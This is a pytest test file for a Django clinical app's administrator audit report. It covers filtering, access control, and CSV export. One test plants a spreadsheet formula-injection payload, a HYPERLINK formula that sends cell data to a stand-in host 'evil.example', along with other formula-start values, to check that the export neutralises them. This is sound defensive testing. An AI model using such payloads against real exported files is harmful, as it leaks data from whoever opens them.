"""The staff audit report: administrators filter the log and export it as CSV, with
spreadsheet formulas neutralised; nobody else finds the page."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import timedelta

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from porch.access.context import AccessContext
from porch.audit import log
from porch.audit.export import safe_cell
from porch.audit.models import Action, AuditEvent
from porch.audit.tests.conftest import Cast, signed_in

pytestmark = pytest.mark.django_db
REPORT = reverse("audit:report")
CSV = reverse("audit:report_csv")


def _ctx(actor: str, user_id: int | None, **extra: object) -> AccessContext:
    ctx = AccessContext.for_patients(actor, frozenset(), purpose="treatment")
    return replace(ctx, user_id=user_id, role="clinician", **extra)  # type: ignore[arg-type]


@pytest.fixture
def events(cast: Cast) -> Cast:
    cruz = _ctx("Ada Cruz", cast.cruz.pk)
    log.record(cruz, Action.READ, [log.Access(cast.ana_id, "Condition", "c1")])
    log.record(cruz, Action.SEARCH, [log.Access(cast.mallory_id, "Observation")])
    diaz = _ctx("Dan Diaz", cast.diaz.pk, break_glass=frozenset({cast.ana_id}))
    log.record(diaz, Action.BREAK_GLASS, [log.Access(cast.ana_id)])
    return cast


def _shown(response: object) -> list[tuple[str, str]]:
    assert response.status_code == 200, response.status_code  # type: ignore[attr-defined]
    page = response.context["page"]  # type: ignore[attr-defined]
    # The administrator's own sign-in is in the log too; these tests look at the rest.
    return [(e.actor, e.action) for e in page if e.action != Action.SIGN_IN]


def test_an_administrator_sees_every_event_newest_first(events: Cast) -> None:
    shown = _shown(signed_in(events.alma).get(REPORT))
    assert shown == [("Dan Diaz", "break-glass"), ("Ada Cruz", "search"), ("Ada Cruz", "read")]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"patient": "MALLORY"}, [("Ada Cruz", "search")]),
        ({"action": "read"}, [("Ada Cruz", "read")]),
        ({"user": "diaz@example.org"}, [("Dan Diaz", "break-glass")]),
        ({"break_glass": "on"}, [("Dan Diaz", "break-glass")]),
        ({"date_from": "2001-01-01", "date_to": "2001-12-31"}, []),
    ],
)
def test_the_report_filters(events: Cast, query: dict[str, str], expected: list[object]) -> None:
    if query.get("patient") == "MALLORY":
        query = {"patient": events.mallory_id}
    assert _shown(signed_in(events.alma).get(REPORT, query)) == expected


def test_a_date_range_includes_the_whole_last_day(events: Cast) -> None:
    today = timezone.localdate().isoformat()
    assert len(_shown(signed_in(events.alma).get(REPORT, {"date_to": today}))) == 3
    tomorrow = (timezone.localdate() + timedelta(days=1)).isoformat()
    assert _shown(signed_in(events.alma).get(REPORT, {"date_from": tomorrow})) == []


def test_bad_filters_are_named(events: Cast) -> None:
    response = signed_in(events.alma).get(
        REPORT, {"user": "nobody@example.org", "date_from": "2026-13-45"}
    )
    assert response.status_code == 200
    form = response.context["form"]
    assert "user" in form.errors and "date_from" in form.errors


@pytest.mark.parametrize("who", ["ana", "cruz", "diaz"])
def test_anyone_but_an_administrator_finds_no_report(events: Cast, who: str) -> None:
    client = signed_in(getattr(events, who))
    assert client.get(REPORT).status_code == 404
    assert client.get(CSV).status_code == 404


def test_an_anonymous_visitor_is_sent_to_sign_in(events: Cast) -> None:
    for url in (REPORT, CSV):
        response = Client().get(url)
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("account_login"))


def _csv(client: Client, query: dict[str, str] | None = None) -> list[list[str]]:
    response = client.get(CSV, query or {})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    text = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    return list(csv.reader(io.StringIO(text)))


def test_the_csv_export_follows_the_filters(events: Cast) -> None:
    rows = _csv(signed_in(events.alma), {"action": "read"})
    assert rows[0][:4] == ["id", "at", "user_id", "actor"]
    assert [r[3] for r in rows[1:]] == ["Ada Cruz"]
    everything = _csv(signed_in(events.alma))
    assert len(everything) == 1 + 3 + 2  # header, the events, two sign-ins


def test_the_csv_export_neutralises_formulas(cast: Cast) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    ctx = replace(_ctx(evil, None), user_agent="@SUM(1+1)", role="+cmd")
    log.record(ctx, Action.READ, [log.Access(cast.ana_id, "Condition", "-1")])
    row = next(r for r in _csv(signed_in(cast.alma)) if r[7] == "read")
    assert row[3] == "'" + evil
    assert row[4] == "'+cmd"
    assert row[9] == "'-1"
    assert row[14] == "'@SUM(1+1)"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert safe_cell(start + "1") == "'" + start + "1"
    assert safe_cell("Ada " + start) == "Ada " + start


def test_the_admin_shows_the_log_read_only(cast: Cast) -> None:
    log.record(_ctx("Ada Cruz", cast.cruz.pk), Action.READ, [log.Access(cast.ana_id)])
    event = AuditEvent.objects.get(action=Action.READ)
    client = signed_in(cast.alma)  # the demo's administrators are Django superusers
    cast.alma.is_staff = cast.alma.is_superuser = True
    cast.alma.save()
    assert client.get("/admin/audit/auditevent/").status_code == 200
    assert client.get("/admin/audit/auditevent/add/").status_code == 403
    assert client.get(f"/admin/audit/auditevent/{event.pk}/delete/").status_code == 403
    change = client.post(f"/admin/audit/auditevent/{event.pk}/change/", {"actor": "Nobody"})
    assert change.status_code == 403
    assert AuditEvent.objects.get(pk=event.pk).actor == "Ada Cruz"
